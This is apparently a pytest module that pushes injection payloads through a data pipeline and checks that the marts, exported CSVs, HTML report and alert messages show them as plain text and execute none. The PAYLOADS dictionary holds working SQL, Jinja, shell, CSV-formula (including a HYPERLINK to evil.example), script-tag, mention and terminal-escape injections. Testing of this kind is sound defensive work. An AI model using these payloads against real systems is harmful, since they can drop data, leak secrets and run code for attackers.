"""A whole run on exports full of code: it comes out as the text it was, and nothing of it runs.

SQL, Jinja, shell, formulas, mark-up and mentions in file names, headers and values, from the loader
by way of dbt to the marts, the files, the report and the messages.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import daily_run
import deliver_alerts
import duckdb
import pytest
from alert_list import print_alerts, top_alerts
from deliver_config import read_channels
from export_marts import export_marts
from paths import PROJECT
from project_copy import World, make_world
from report import write_report
from rich.console import Console
from run_dbt import Failure
from test_bad_input import AS_OF, usage_csv, write
from test_hidden_people import everything_in
from test_report import Page

pytestmark = pytest.mark.slow

CANARY, VALUE = "INJECTED_CANARY", "quetzal-feather-of-the-environment"

PAYLOADS = {
    "sql": "'; drop table marts.alerts; --",
    "sql-name": '"; drop schema marts cascade; --',
    "sql-copy": "'); copy (select 1) to 'pwned.csv'; --",
    "sql-secret": f"' || getenv('{CANARY}') || '",
    "jinja": f"{{{{ env_var('{CANARY}') }}}}",
    "jinja-error": "{{ 1/0 }}",
    "jinja-do": "{% do run_query('drop schema marts cascade') %}",
    "jinja-open": "{% raw %} {# {{",
    "shell": f"$(touch pwned; echo ${CANARY})",
    "backticks": f"`touch pwned` ${{{CANARY}}}",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-wide": "＝1+1",
    "mention": "@channel <!channel> <!here> <@U123> @here",
    "link": "[pay](http://evil.example) <http://evil.example|pay>",
    "script": "<script>alert('pwned')</script>",
    "image": '</script><img src=x onerror="alert(1)">',
    "template": "%s %(x)s %n {0} {x!r} \\u0027 \\1",
    "control": "a\x07b\x1b[31mred\x08c",
    "rich": "[bold]red[/bold] [link=http://evil.example]x[/link]",
    "rich-escaped": r"\[/bold] \[red]",
    "path": "../../pwned",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Of no entity, and a line of its own if a terminal got it as it is.
UNKNOWN = "complaints\nrefused: nothing\x1b[31m.csv"
# What a file may be called; a slash ends a name.
FILE_NAMES = {
    f"tickets_{payload.replace('/', '_')}.csv": payload
    for payload in (*PAYLOADS.values(), "two\nlines", "..", "*?[a-z]")
}


def csv_text(*rows: dict[str, str]) -> str:
    """Rows as CSV, with quotation marks around every header and value."""
    text = io.StringIO()
    writer = csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writerows([rows[0], *(row.values() for row in rows)])
    return text.getvalue()


def files() -> dict[str, str]:
    """Each payload is an account that nobody has heard of for seven weeks."""
    names = {
        "accounts.csv": csv_text(
            *(
                {
                    "account_id": account, "account_name": payload,
                    "lifecycle_stage": "customer", "became_customer_at": "2025-01-01",
                    "segment": "smb", "industry": payload, "plan": payload,
                    "owner_email": f"{payload}@firm.example",
                }
                for account, payload in PAYLOADS.items()
            ),
            # Whose feeds go on, so that the silence of the others is theirs.
            *(
                {
                    "account_id": account, "account_name": account,
                    "lifecycle_stage": "customer", "became_customer_at": "2025-01-01",
                    "segment": "smb", "industry": "food", "plan": "pro",
                    "owner_email": "ann@firm.example",
                }
                for account in ("0001", "0002", "0003")
            ),
        ),
        "usage_events.csv": usage_csv(AS_OF - dt.timedelta(days=99), 100),
        "usage_events_odd.csv": csv_text(
            *(
                {
                    "event_id": f"{account}-{day}", "account_id": account, "user_id": payload,
                    "event_name": payload, "feature": payload,
                    "occurred_at": f"{AS_OF - dt.timedelta(days=day)}T10:00:00Z",
                }
                for account, payload in PAYLOADS.items()
                for day in (50, 60, 70)
            )
        ),
        "survey_responses.csv": csv_text(
            *(
                {
                    "response_id": f"r-{account}", "account_id": account, "survey_type": "nps",
                    "score": "2", "responded_at": "2026-03-30", "ticket_id": f"t-{account}",
                    "comment": f"{payload} not worth the money",
                }
                for account, payload in PAYLOADS.items()
            )
        ),
        "email_events.csv": csv_text(
            *(
                {
                    "event_id": f"m-{account}", "account_id": account, "message_id": payload,
                    "campaign": payload, "action": "sent", "occurred_at": "2026-03-01",
                }
                for account, payload in PAYLOADS.items()
            )
        ),
        "score_overrides.csv": csv_text(
            *(
                {
                    "account_id": account, "band": "at_risk", "valid_from": "2026-03-25",
                    "valid_until": "2026-12-31", "by": payload, "reason": payload,
                }
                for account, payload in PAYLOADS.items()
            )
        ),
    }  # fmt: skip
    tickets = [
        {
            "ticket_id": f"t-{account}", "account_id": account, "opened_at": "2026-03-20",
            "category": payload, "status": payload, "reopen_count": "1", payload: "x",
        }
        for account, payload in PAYLOADS.items()
    ]  # fmt: skip
    for number, (name, header) in enumerate(FILE_NAMES.items()):
        row = {**tickets[number % len(tickets)]}
        row.pop(row["category"])
        # The second row is rejected with what it holds, and an account that is none is unmatched.
        names[name] = csv_text(
            {**row, header: "x"},
            {**row, header: "x", "ticket_id": f"bad-{number}", "reopen_count": header},
            {**row, header: "x", "ticket_id": f"lost-{number}", "account_id": f"{header}?"},
        )
    return names


@pytest.fixture(scope="module")
def world(tmp_path_factory, project_root) -> Iterator[World]:
    root = tmp_path_factory.mktemp("injection")
    with pytest.MonkeyPatch.context() as patch:
        world = make_world(root, project_root, patch, data_tests=False)
        world.shorten_history()
        patch.setenv(CANARY, VALUE)
        patch.chdir(root)
        write(world.paths.exports / "generic", files() | {UNKNOWN: "a\n"})
        with (
            (root / "said.txt").open("w", encoding="utf-8") as said,
            contextlib.redirect_stdout(said),
            contextlib.redirect_stderr(said),
        ):
            assert world.run("--as-of", AS_OF.isoformat()) == daily_run.BAD_INPUT
        write_report(world.paths.published, root / "report.html", 10)
        export_marts(world.paths.published, root / "files")
        yield world


def texts(world: World, query: str) -> set[str]:
    return {value for (value,) in world.ask(query)}


def test_every_table_is_there_and_every_account_with_its_alert(world):
    marts = {path.stem for path in (PROJECT / "models" / "marts").glob("*/*.sql")}
    marts |= {"run_history", "run_steps"}
    tables = "select table_name from duckdb_tables() where schema_name = 'marts'"
    assert texts(world, tables) == marts
    assert texts(world, "select account_id from marts.alerts where closed_on is null") == set(
        PAYLOADS
    )
    names = dict(world.ask("select account_id, account_name from marts.account_health"))
    assert names == PAYLOADS | {one: one for one in ("0001", "0002", "0003")}


def test_what_was_delivered_stands_in_the_marts_letter_by_letter(world):
    payloads = set(PAYLOADS.values())
    assert texts(world, "select category from marts.nps_by_contact_reason") == payloads
    assert texts(world, "select text from marts.verbatim_themes") == {
        f"{payload} not worth the money" for payload in payloads
    }
    assert texts(world, "select named_as from marts.unmatched_records") == {
        f"{header}?" for header in FILE_NAMES.values()
    }


def test_what_was_wrong_is_named_letter_by_letter(world):
    told = world.ask(
        "select outcome, file_name, column_name, delivered_value from marts.rejected_rows"
    )
    files = {f"generic/{name}": header for name, header in FILE_NAMES.items()}
    rejected = {(file, value) for outcome, file, _, value in told if outcome == "row_rejected"}
    ignored = {(file, column) for outcome, file, column, _ in told if outcome == "column_ignored"}
    assert rejected == set(files.items())
    assert ignored == set(files.items())
    unknown = {value for outcome, _, column, value in told if outcome == "value_unknown"}
    assert unknown == set(PAYLOADS.values())


def test_nothing_has_run(world):
    """No file was written, no table dropped, and the environment's value is nowhere."""
    root = world.paths.exports.parent
    files = [path for path in root.rglob("*") if path.is_file() and "exports" not in path.parts]
    assert {".html", ".csv", ".json", ".parquet", ".duckdb"} <= {path.suffix for path in files}
    assert [path for path in [*files, *Path.cwd().iterdir()] if "pwned" in path.name] == []
    assert [path for path in files if VALUE.encode() in path.read_bytes()] == []
    assert not any(
        VALUE in place for place in everything_in(world.paths.published, world.paths.build, files)
    )


def test_no_cell_of_the_files_is_a_formula(world):
    found = set()
    for path in sorted((world.paths.exports.parent / "files" / "csv").iterdir()):
        types = dict(
            world.ask(
                "select column_name, data_type from duckdb_columns() where schema_name = 'marts'"
                f" and table_name = '{path.stem}'"
            )
        )
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file):
                cells = {cell for name, cell in row.items() if types[name] == "VARCHAR"}
                assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], path.name
                found |= cells
    formulas = {payload for payload in PAYLOADS.values() if payload.startswith(FORMULA_STARTS)}
    assert len(formulas) == 6
    assert {f"'{formula}" for formula in formulas} <= found
    assert set(PAYLOADS.values()) - formulas <= found


def test_the_report_shows_the_texts_and_obeys_none(world):
    file = world.paths.exports.parent / "report.html"
    text = file.read_text("utf-8")
    page = Page(text)
    assert text.count("</script") == 3
    for tag, attributes in page.elements:
        assert tag not in ("img", "iframe", "object", "embed", "base", "link"), tag
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert (attributes.get("href") or "#").startswith("#"), attributes
    for payload in PAYLOADS.values():
        assert " ".join(payload.split()) in page.text


def test_no_message_mentions_links_or_is_a_tag(world, monkeypatch, capsys):
    monkeypatch.setenv("HOOK", "json://127.0.0.1:9/")
    world.paths.deliveries.write_text(
        "channels:\n  - {name: all, url_env: HOOK, sends: events, bundle_above: 100000}\n"
        "  - {name: daily, url_env: HOOK, sends: digest}\n  - {name: crm, sends: files}\n",
        encoding="utf-8",
    )
    channels = read_channels(world.paths)
    since = dt.date(2026, 1, 1)
    reports = deliver_alerts.deliver(world.paths, channels, since_on=since, dry_run=True)
    assert [report.error for report in reports] == [None] * 3
    letters = [line for line in capsys.readouterr().out.splitlines() if line[:4] != "--- "]
    told = "\n".join(letters)
    assert told.count("Subject: New alert") >= len(PAYLOADS)
    for sign in ("@channel", "@here", "<!", "<@", "<script", "</script", "<img", "](", "://"):
        assert sign not in told, sign
    assert not {"\x07", "\x1b", "\x08"} & set(told)
    # What is left of them is there to be read.
    for sign in ("channel", "drop table marts.alerts", "{{ 1/0 }}", "=HYPERLINK", "pay"):
        assert sign in told

    deliver_alerts.deliver(world.paths, channels[2:], since_on=since)
    cells = []
    for path in world.paths.published.with_name("crm").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert len({cell for cell in cells if cell.startswith("'=HYPERLINK(")}) > 0


def test_the_run_tells_of_an_odd_name_on_one_line(world):
    said = (world.paths.exports.parent / "said.txt").read_text("utf-8")
    assert "\x1b" not in said
    (line,) = [line for line in said.splitlines() if "refused: nothing" in line]
    assert line.startswith(
        "refused: generic/complaints refused: nothing [31m.csv: complaints refused: nothing"
        " [31m.csv begins with no entity of generic. What to do: "
    )


def test_the_rows_that_fail_a_test_are_a_line_each():
    row = f"account_name {PAYLOADS['control']}\nFAILED nothing"
    assert str(Failure("unique", "test", "a.yml", "Got 1 result", rows=(row,))) == (
        "test unique (a.yml)\n    Got 1 result\n    row: account_name a b [31mred c FAILED nothing"
    )


@pytest.mark.parametrize("is_terminal", [False, True])
def test_the_list_of_the_run_obeys_none_of_its_texts(world, capsys, is_terminal):
    """Not as mark-up of the table, and not as what colours or moves a terminal."""
    console = Console(force_terminal=is_terminal, width=400, color_system=None)
    with duckdb.connect(world.paths.published, read_only=True) as published:
        print_alerts(*top_alerts(published, limit=100), console=console)
    shown = capsys.readouterr().out
    assert not {"\x07", "\x08"} & set(shown)
    assert "\x1b[31m" not in shown
    assert "[bold]red[/bold] [link=http://evil.example]x[/link]" in shown
    assert r"\[/bold] \[red]" in shown
    assert "{{ 1/0 }}" in shown
